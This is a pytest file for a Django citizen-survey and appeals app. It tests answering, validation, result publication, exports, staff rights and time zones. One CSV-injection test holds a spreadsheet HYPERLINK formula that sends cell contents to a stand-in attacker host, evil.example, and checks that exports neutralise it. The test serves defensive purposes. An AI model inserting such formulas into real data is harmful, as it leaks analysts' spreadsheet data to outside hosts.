"""The public page (answering, one answer per respondent, closed surveys, bad input) and the staff
screens (editor, results, export, object-level rights), plus the invitation on the appeal page."""

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.test import Client
from openpyxl import load_workbook

from otklik.accounts.roles import Role
from otklik.surveys import services
from otklik.surveys.models import Response, Survey
from otklik.surveys.tests.base import answer, make_poll, questions
from otklik.testing import make_staff


def _ticket(page: str) -> str:
    return re.search(r'name="ticket" value="([^"]+)"', page).group(1)


def _post_data(survey, page, **overrides):
    q1, q2, q3, q4 = questions(survey)
    data = {
        "ticket": _ticket(page),
        f"q{q1.pk}": q1.options.get(text="Да").pk,
        f"q{q2.pk}": [q2.options.get(text="Сайт").pk, q2.options.get(text="Школа").pk],
        f"q{q3.pk}": "4",
        f"q{q4.pk}": "Горячие завтраки",
        "role": "parent",
        "age_group": "",
    }
    return {**data, **overrides}


def test_citizen_answers_once_without_login_and_a_replayed_form_is_not_counted(client, personas):
    survey = make_poll(personas.ministry)
    page = client.get(f"/surveys/{survey.key}/").content.decode()
    assert "Опрос о питании" in page and "О вас (по желанию)" in page
    assert page.count("1 — очень плохо, 5 — отлично") == 1  # the scale question says what 1 and 5 mean
    data = _post_data(survey, page)
    response = client.post(f"/surveys/{survey.key}/", data)
    assert response.status_code == 302
    saved = Response.objects.get()
    assert (saved.role, saved.age_group, saved.answers.count()) == ("parent", "", 5)
    assert "Ваш ответ учтён" in client.get(f"/surveys/{survey.key}/").content.decode()
    assert client.post(f"/surveys/{survey.key}/", data).status_code == 409
    stranger = Client()  # the same form body sent again without the cookie
    replay = stranger.post(f"/surveys/{survey.key}/", data)
    assert replay.status_code == 409 and "Ваш ответ учтён" in replay.content.decode()
    assert Response.objects.count() == 1


def test_another_browser_answers_separately(client, personas):
    survey = make_poll(personas.ministry)
    for browser in (client, Client()):
        page = browser.get(f"/surveys/{survey.key}/").content.decode()
        assert browser.post(f"/surveys/{survey.key}/", _post_data(survey, page)).status_code == 302
    assert Response.objects.count() == 2


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        (0, "", "Ответьте на этот вопрос."),
        (0, "999999", "Выберите вариант из предложенных."),
        (1, ["abc"], "Выберите вариант из предложенных."),
        (2, "9", "Выберите вариант из предложенных."),
        (3, "я" * 2001, "Ответ длиннее 2000 символов"),
        ("role", "boss", "Выберите вариант из списка или оставьте поле пустым."),
        ("territory", "999999", "Выберите вариант из списка или оставьте поле пустым."),
        ("ticket", "forged", "Форма устарела или повреждена"),
    ],
)
def test_bad_input_is_explained_in_russian_keeps_the_answers_and_saves_nothing(
    client, personas, field, value, message
):
    survey = make_poll(personas.ministry)
    page = client.get(f"/surveys/{survey.key}/").content.decode()
    name = field if isinstance(field, str) else f"q{questions(survey)[field].pk}"
    response = client.post(f"/surveys/{survey.key}/", _post_data(survey, page, **{name: value}))
    body = response.content.decode()
    assert response.status_code == 400 and message in body
    if field != 3:
        assert "Горячие завтраки" in body  # what was typed is still there
    assert Response.objects.count() == 0


@pytest.mark.parametrize(
    ("status", "text"),
    [(Survey.Status.CLOSED, "Опрос завершён"), (Survey.Status.DRAFT, "ещё готовится")],
)
def test_closed_or_draft_survey_says_so_and_takes_no_answer(client, personas, status, text):
    survey = make_poll(personas.ministry)
    page = client.get(f"/surveys/{survey.key}/").content.decode()
    Survey.objects.filter(pk=survey.pk).update(status=status)
    assert text in client.get(f"/surveys/{survey.key}/").content.decode()
    response = client.post(f"/surveys/{survey.key}/", _post_data(survey, page))
    assert response.status_code == 400 and text in response.content.decode()
    assert Response.objects.count() == 0
    open_list = client.get("/surveys/").content.decode().split("Итоги завершённых опросов")[0]
    assert survey.title not in open_list


PUBLIC_ROWS = [
    ("Да", ["Сайт"], 5, "Спасибо, всё вкусно"),
    ("Да", ["Бот"], 4, ""),
    ("Нет", ["Сайт"], 2, "Иванова из 5Б не ест"),
    ("Да", ["Сайт"], 4, ""),
    ("Да", ["Школа"], 5, ""),
]


def test_a_finished_survey_publishes_its_results_without_free_texts(client, personas):
    survey = make_poll(personas.ministry, asks_profile=False)
    for row in PUBLIC_ROWS:
        answer(survey, *row)
    assert "<h2>Итоги</h2>" not in client.get(f"/surveys/{survey.key}/").content.decode()  # still open
    services.survey_set_status(survey=survey, status=Survey.Status.CLOSED)
    page = client.get(f"/surveys/{survey.key}/").content.decode()
    assert "<h2>Итоги</h2>" in page and "Всего ответов: <strong>5</strong>" in page
    assert '<td>Да</td><td class="num">4</td>' in page and "80%" in page  # 4 of 5 said yes
    assert "средняя оценка: <strong>4,0</strong> из 5" in page
    assert "Иванова" not in page and "Что улучшить?" not in page  # no free texts in public
    finished = client.get("/surveys/").content.decode().split("Итоги завершённых опросов")[1]
    assert survey.title in finished


def test_results_of_few_answers_or_kept_private_are_not_published(client, personas):
    few = make_poll(personas.ministry, asks_profile=False, title="Мало ответов")
    for row in PUBLIC_ROWS[:4]:
        answer(few, *row)
    private = make_poll(personas.ministry, asks_profile=False, title="Для себя", results_public=False)
    for row in PUBLIC_ROWS:
        answer(private, *row)
    for survey in (few, private):
        services.survey_set_status(survey=survey, status=Survey.Status.CLOSED)
    page = client.get(f"/surveys/{few.key}/").content.decode()
    assert "Итоги не публикуются: ответов меньше пяти." in page and "<td>Да</td>" not in page
    page = client.get(f"/surveys/{private.key}/").content.decode()
    assert "Опрос завершён" in page and "<h2>Итоги</h2>" not in page
    assert "Для себя" not in client.get("/surveys/").content.decode()


def test_survey_not_yet_open_shows_its_start_in_the_region_time_zone(client, personas):
    survey = make_poll(personas.ministry, opens_at=datetime(2099, 3, 1, 4, 0, tzinfo=UTC))
    assert "Опрос начнётся 01.03.2099 в 09:00" in client.get(f"/surveys/{survey.key}/").content.decode()


def test_staff_create_a_vote_add_projects_and_open_it(client, personas):
    client.force_login(personas.coordinator)
    response = client.post(
        "/staff/surveys/new/",
        {
            "title": "Голосование за проект благоустройства",
            "organization": personas.ministry.pk,
            "kind": "vote",
            "opens_at": "2026-03-01T09:00",
            "closes_at": "2099-03-01T09:00",
            "asks_profile": "on",
        },
    )
    survey = Survey.objects.get()
    assert response.status_code == 302 and survey.status == "draft"
    assert survey.opens_at == datetime(2026, 3, 1, 4, 0, tzinfo=UTC)  # Asia/Yekaterinburg, UTC+5
    url = f"/staff/surveys/{survey.pk}/"
    client.post(
        url,
        {
            "action": "question",
            "text": "Какой проект реализовать?",
            "kind": "single",
            "required": "on",
            "options": "Сквер | у школы № 1\nСпортплощадка | у школы № 2",
        },
    )
    bad = client.post(url, {"action": "question", "text": "Ещё один", "kind": "single", "options": "А\nБ"})
    assert bad.status_code == 400 and "один вопрос" in bad.content.decode()
    client.post(url, {"action": "status", "status": "open"})
    survey.refresh_from_db()
    assert survey.status == "open" and survey.questions.get().options.count() == 2
    assert survey.title in client.get("/staff/surveys/").content.decode()


def test_results_page_and_exports_carry_the_same_figures(client, personas):
    survey = make_poll(personas.ministry)
    for single in ["Да", "Да", "Нет"]:
        answer(survey, single, ["Сайт"], 5, "Спасибо")
    client.force_login(personas.analyst)
    page = client.get(f"/staff/surveys/{survey.pk}/results/").content.decode()
    assert (
        "всего ответов: <strong>3</strong>" in page and "67%" in page and "Спасибо" in page and "<svg" in page
    )
    xlsx = client.get(f"/staff/surveys/{survey.pk}/results/?format=xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(xlsx.content))
    rows = [list(r) for r in book["Итоги"].iter_rows(values_only=True)]
    assert ["1. Довольны ли вы питанием?", "Да", 2, pytest.approx(2 / 3)] in rows
    assert ["3. Оцените качество блюд", "средняя оценка", 5.0, "—"] in rows
    assert [r[:2] for r in book["Свободные ответы"].iter_rows(values_only=True)][2] == (
        "4. Что улучшить?",
        "Спасибо",
    )
    text = client.get(f"/staff/surveys/{survey.pk}/results/?format=csv").content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert ["1. Довольны ли вы питанием?", "Да", "2", "66,7%"] in lines
    assert ["1. Довольны ли вы питанием?", "ответили", "3", "—"] in lines


def test_a_free_text_answer_written_as_a_formula_is_exported_as_text(client, personas):
    """CSV injection: a citizen's answer must not become a live formula in the analyst's Excel."""
    survey = make_poll(personas.ministry)
    formula = '=HYPERLINK("evil.example/?"&A1,"Подробнее")'  # a link with a scheme would be masked
    answer(survey, "Да", ["Сайт"], 5, formula)
    client.force_login(personas.analyst)
    text = client.get(f"/staff/surveys/{survey.pk}/results/?format=csv").content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'" + formula in cells and formula not in cells
    xlsx = client.get(f"/staff/surveys/{survey.pk}/results/?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content))["Свободные ответы"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == formula)
    assert cell.data_type == "s"


def test_staff_of_another_organization_get_404_and_change_nothing(client, personas):
    survey = make_poll(personas.body_a)
    client.force_login(make_staff(personas.body_b, Role.COORDINATOR))
    for url in (f"/staff/surveys/{survey.pk}/", f"/staff/surveys/{survey.pk}/results/?format=csv"):
        assert client.get(url).status_code == 404
    assert (
        client.post(f"/staff/surveys/{survey.pk}/", {"action": "status", "status": "closed"}).status_code
        == 404
    )
    assert survey.title not in client.get("/staff/surveys/").content.decode()
    survey.refresh_from_db()
    assert survey.status == "open"
    client.force_login(personas.coordinator)  # the ministry is above body A
    assert client.get(f"/staff/surveys/{survey.pk}/results/").status_code == 200


def test_executor_without_a_survey_role_is_refused(client, personas):
    client.force_login(personas.executor_a)
    assert client.get("/staff/surveys/").status_code == 403
    assert (
        client.post("/staff/surveys/new/", {"title": "x", "organization": personas.body_a.pk}).status_code
        == 403
    )
    assert Survey.objects.count() == 0


def test_answered_appeal_invites_to_the_open_satisfaction_survey_of_its_organization(
    client, region, settings
):
    from otklik.appeals import services as appeals

    settings.APPEAL_AUTO_ROUTE_CONFIDENCE = 0.0
    appeal, _ = appeals.appeal_submit(
        region=region.region,
        text="В школе № 1 холодно в классах, отопление не работает.",
        channel="web",
        territory=region.territory_a,
    )
    assert appeal.organization == region.body_a
    url = f"/appeal/{appeal.number}/?s={appeal.secret}"
    poll = make_poll(region.ministry, kind=Survey.Kind.SATISFACTION, title="Удовлетворённость ответами")
    assert "Удовлетворённость ответами" not in client.get(url).content.decode()  # no answer yet
    appeals.appeal_answer(
        appeal=appeal, actor=region.executor_a, text="Отопление восстановлено, температура 20 °C."
    )
    page = client.get(url).content.decode()
    assert "Оцените работу организации" in page and f"/surveys/{poll.key}/" in page
    Survey.objects.filter(pk=poll.pk).update(status=Survey.Status.CLOSED)
    assert "Оцените работу организации" not in client.get(url).content.decode()


def test_admin_shows_a_response_with_its_answers_read_only(client, personas):
    response = answer(make_poll(personas.ministry), "Да", ["Сайт"], 5, "Спасибо")
    client.force_login(personas.admin)
    page = client.get(f"/admin/surveys/response/{response.pk}/change/").content.decode()
    assert "Спасибо" in page and response.respondent_hash not in page


def test_results_and_exports_of_a_half_year_cover_only_its_answers(client, personas):
    from otklik.surveys.tests.test_selectors import _halves

    survey = _halves(personas)
    client.force_login(personas.analyst)
    url = f"/staff/surveys/{survey.pk}/results/"
    page = client.get(url, {"from": "2026-01-01", "to": "2026-06-30"}).content.decode()
    assert "Период: <strong>01.01.2026 — 30.06.2026</strong>" in page
    assert "ответов за период: <strong>5</strong>" in page and "Холодно" not in page
    assert "?from=2026-01-01&amp;to=2026-06-30&amp;format=csv" in page
    text = client.get(url, {"from": "2026-07-01", "format": "csv"}).content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert ["Всего ответов: 3. Опрос мнения. Период: 01.07.2026 — …."] in lines
    assert ["1. Довольны ли вы питанием?", "Нет", "3", "100,0%"] in lines
    assert ["родитель", "<5", "<5", "<5"] in lines
    whole = client.get(url).content.decode()
    assert "Период: <strong>весь опрос</strong>" in whole and "ответов за период: <strong>8</strong>" in whole


def test_wrong_period_is_explained_and_exports_refuse_it(client, personas):
    survey = make_poll(personas.ministry)
    client.force_login(personas.analyst)
    url = f"/staff/surveys/{survey.pk}/results/"
    page = client.get(url, {"from": "2026-07-01", "to": "2026-06-30"})
    assert page.status_code == 400 and "Конец периода раньше начала." in page.content.decode()
    assert "Период: <strong>весь опрос</strong>" in page.content.decode()
    export = client.get(url, {"from": "2026-13-45", "format": "xlsx"})
    assert export.status_code == 400 and "ГГГГ-ММ-ДД" in export.content.decode()


def test_dates_of_a_survey_are_in_its_own_region_time_zone(client, personas):
    from otklik.orgs.models import Organization
    from otklik.testing import make_org, make_region

    far_east = make_region(name="Приморье", timezone="Asia/Vladivostok")  # UTC+10; default is UTC+5
    ministry = make_org(far_east, Organization.Kind.MINISTRY, name="Министерство Приморья")
    # 15:00 UTC is 20:00 on 1 March in Yekaterinburg and 01:00 on 2 March in Vladivostok.
    moment = datetime(2099, 3, 1, 15, 0, tzinfo=UTC)
    make_poll(ministry, title="Опрос Приморья", closes_at=moment)
    later = make_poll(ministry, title="Будущий опрос", opens_at=moment)
    assert "Опрос Приморья</a> — опрос мнения, Министерство Приморья, до 02.03.2099" in (
        client.get(f"/surveys/?region={far_east.code}").content.decode()  # the list is per region
    )
    assert "Опрос начнётся 02.03.2099 в 01:00" in client.get(f"/surveys/{later.key}/").content.decode()
    client.force_login(personas.admin)
    response = client.post(
        "/staff/surveys/new/",
        {
            "title": "Опрос с датами",
            "organization": ministry.pk,
            "kind": "poll",
            "opens_at": "2099-03-02T01:00",
            "asks_profile": "on",
        },
    )
    assert response.status_code == 302
    assert Survey.objects.get(title="Опрос с датами").opens_at == moment
